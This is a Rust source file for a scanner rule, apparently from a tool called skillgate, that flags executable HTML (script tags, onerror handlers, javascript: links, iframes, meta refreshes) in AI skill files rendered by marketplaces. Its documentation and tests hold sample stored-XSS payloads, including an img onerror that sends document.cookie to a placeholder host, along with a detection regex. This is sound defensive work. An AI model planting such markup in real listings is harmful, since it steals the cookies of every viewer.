//! Markup aimed at whoever renders the skill: a marketplace page, a registry listing, a
//! dashboard that shows SKILL.md as HTML.

use super::finding;
use crate::registry::declare_rule;
use crate::rule::Language;
use crate::units::Unit;
use skillgate_model::{Capability, Confidence, Finding, KillChainStage, Severity};

declare_rule! {
    /// ## What it does
    /// Flags HTML that runs when rendered, in the frontmatter or in prose (outside code blocks
    /// and inline code): `<script>` elements (with a body and an end tag, or a `src`; a tag
    /// only named, as in "`<script setup>` blocks", is not one), event-handler attributes (`onerror=`,
    /// `onload=`), `javascript:` links and sources, `<iframe src>` and meta refreshes. In the
    /// frontmatter (name, description, metadata a marketplace lists) it is critical; in prose,
    /// high. Payloads quoted in fenced blocks, as security skills do, are not flagged.
    ///
    /// ## Why is this risky?
    /// Marketplaces and registries render a skill's metadata and instructions as HTML. Script
    /// there runs in the browser of every user who views the listing: stored cross-site
    /// scripting against the marketplace, its reviewers and its users. No skill needs it.
    ///
    /// ## Example
    /// `description: Formats tables. <img src=x onerror="fetch('https://c.example/?'+document.cookie)">`
    pub struct ExecutableMarkup { code: "SK729", slug: "executable-markup", severity: High, summary: "markup that runs when the skill is rendered" }
}

crate::pattern::lazy_regex! {
    MARKUP = r#"(?i)<script\b[^<>]*>[^<]{0,4000}</script\s*>|<script\b[^<>]*\bsrc\s*=|<[a-z][a-z0-9]*\b[^<>]*?\son[a-z]{3,20}\s*=|\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*javascript:|\]\(\s*javascript:|<iframe\b[^<>]*\bsrc\s*=|<meta\b[^<>]*http-equiv\s*=\s*["']?refresh|<object\b[^<>]*\bdata\s*=|<embed\b[^<>]*\bsrc\s*="#;
    /// Inline code may run over a line break in Markdown.
    INLINE_CODE = r"`[^`]{0,400}`";
}

/// `frontmatter_line` is the line SKILL.md's frontmatter unit starts on (its file is
/// `skill_md`): markup there is in every listing of the skill.
pub fn check(units: &[Unit], skill_md: &str, out: &mut Vec<Finding>) {
    for unit in units
        .iter()
        .filter(|u| u.lang == Language::Prose && u.decoded_from.is_none() && !u.quoted_example)
    {
        if !unit.text.contains('<') && !unit.text.contains("javascript:") {
            continue;
        }
        let text =
            INLINE_CODE.replace_all(&unit.text, |m: &regex::Captures| " ".repeat(m[0].len()));
        let Some(m) = MARKUP.find(&text) else {
            continue;
        };
        let in_frontmatter = unit.file == skill_md && unit.line == 2;
        let (line, col) = unit.position(m.start());
        let mut f = finding(
            &ExecutableMarkup::INFO,
            Confidence::High,
            "injection",
            if in_frontmatter {
                "the frontmatter holds markup that runs wherever the skill is listed"
            } else {
                "the instructions hold markup that runs wherever the skill is rendered"
            },
        )
        .at(&unit.file, Some(line), Some(col))
        .with_evidence(unit.line_at(m.start()).trim())
        .with_capability(Capability::CodeDynamic)
        .with_stage(KillChainStage::Execution);
        if in_frontmatter {
            f.severity = Severity::Critical;
        }
        out.push(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(file: &str, line: u32, text: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        check(
            &[Unit::new(file, Language::Prose, text, line)],
            "SKILL.md",
            &mut out,
        );
        out
    }

    #[test]
    fn handlers_and_scripts_in_frontmatter_are_critical() {
        let out = run(
            "SKILL.md",
            2,
            "name: t\ndescription: Formats tables. <img src=x onerror=\"fetch('https://c.example')\">",
        );
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].severity, Severity::Critical);
        assert_eq!(
            run("SKILL.md", 9, "See [here](javascript:alert(1)).")[0].severity,
            Severity::High
        );
        assert_eq!(run("README.md", 1, "<script>steal()</script>").len(), 1);
    }

    #[test]
    fn mentions_in_inline_code_and_plain_html_are_not_flagged() {
        assert!(
            run(
                "SKILL.md",
                9,
                "Look for `<script>` tags and `onerror=` handlers."
            )
            .is_empty()
        );
        assert!(
            run(
                "SKILL.md",
                9,
                "<details><summary>More</summary><img src=\"a.png\" alt=\"x\"></details>"
            )
            .is_empty()
        );
        assert!(run("SKILL.md", 9, "The one-line JavaScript: snippets below.").is_empty());
        // Tags named, not written: an element needs its body and end, or a source.
        assert!(
            run(
                "SKILL.md",
                9,
                "- Vue SFC structure: <script setup>, <template>, <style scoped>"
            )
            .is_empty()
        );
    }
}
